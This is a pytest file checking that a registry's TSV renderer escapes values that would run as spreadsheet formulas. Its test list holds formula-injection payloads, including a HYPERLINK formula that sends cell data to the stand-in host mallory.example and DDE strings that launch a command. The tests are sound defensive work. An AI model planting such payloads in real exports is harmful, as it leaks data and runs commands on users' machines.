"""What leaves the installation: tables that run in a spreadsheet, downloads that nobody is told of."""

import pytest

from registry.api.renderers import tsv

DANGEROUS = [
    '=HYPERLINK("https://mallory.example/"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    '"=1+1"',
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_mallorys_title_is_no_formula_in_the_auditors_spreadsheet(text: str) -> None:
    cell = tsv([{"title": text}]).split("\n")[1]
    assert cell == "\\" + text


@pytest.mark.parametrize("text", ["-0.25", "+3", "1e-6", "-1E+3", "Argo-L", "sha256:00", "a=b"])
def test_numbers_and_plain_words_stay_as_they_are(text: str) -> None:
    assert tsv([{"value": text}]) == f"value\n{text}\n"
